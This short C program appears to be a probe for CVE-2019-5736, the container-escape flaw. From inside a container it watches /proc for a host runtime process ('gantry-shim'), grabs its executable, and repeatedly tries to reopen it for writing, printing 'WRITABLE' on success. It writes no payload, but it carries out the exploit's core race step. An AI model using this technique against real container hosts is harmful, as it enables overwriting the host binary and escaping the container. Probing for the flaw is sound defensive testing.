// CVE-2019-5736: waits for a process in this container whose executable is the host's, opens it while it can, and tries to
// open it for writing until long after. Says WRITABLE if it could.
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

int main(int argc, char **argv) {
  time_t end = time(NULL) + (argc > 1 ? atoi(argv[1]) : 3);
  int caught = 0;
  puts("watching");
  fflush(stdout);
  while (time(NULL) < end) {
    DIR *proc = opendir("/proc");
    for (struct dirent *entry; (entry = readdir(proc));) {
      char path[300], target[300] = "";
      if (entry->d_name[0] < '1' || entry->d_name[0] > '9' || atoi(entry->d_name) == getpid()) continue;
      snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
      if (readlink(path, target, sizeof target - 1) < 0 || !strstr(target, "gantry-shim")) continue;
      int fd = open(path, O_RDONLY);
      if (fd < 0) continue;
      if (!caught++) puts("caught");
      snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
      for (int tries = 0; tries < 2000; tries++) {
        if (open(path, O_WRONLY) >= 0) return puts("WRITABLE"), 1;
      }
      close(fd);
    }
    closedir(proc);
  }
  return puts("done"), 0;
}
